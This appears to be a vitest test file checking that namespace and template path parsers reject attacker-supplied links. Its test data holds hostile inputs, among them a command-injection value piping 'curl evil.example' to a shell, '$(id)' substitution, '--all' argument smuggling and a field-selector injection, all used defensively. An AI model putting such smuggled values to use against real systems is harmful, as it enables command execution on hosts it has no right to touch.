/** A link that a user follows may come from an attacker. */
import { expect, test } from 'vitest'
import { namespaceInPath, templateInPath } from './view-paths.ts'

test.each([
  { path: '/namespaces/team-a', found: { name: 'team-a', tab: '' } },
  { path: '/namespaces/team-a/events', found: { name: 'team-a', tab: 'events' } },
  { path: '/namespaces/--all/delete', found: undefined },
  { path: '/namespaces/x;curl%20evil.example%7Csh', found: undefined },
  { path: '/namespaces/$(id)', found: undefined },
  { path: '/namespaces/%', found: undefined },
  { path: '/namespaces/%ff', found: undefined },
  { path: '/namespaces/a,metadata.namespace!=b', found: undefined },
  { path: '/namespaces/', found: undefined },
])('$path leads to the namespace $found.name', ({ path, found }) => {
  expect(namespaceInPath(path)).toEqual(found)
})

test.each([
  { path: '/templates/example.com', found: { name: 'example.com', isEdited: false } },
  { path: '/templates/default/edit', found: { name: 'default', isEdited: true } },
  { path: '/templates/--all', found: undefined },
  { path: '/templates/$(id)/edit', found: undefined },
  { path: '/templates/%ff', found: undefined },
])('$path leads to the template $found.name', ({ path, found }) => {
  expect(templateInPath(path)).toEqual(found)
})
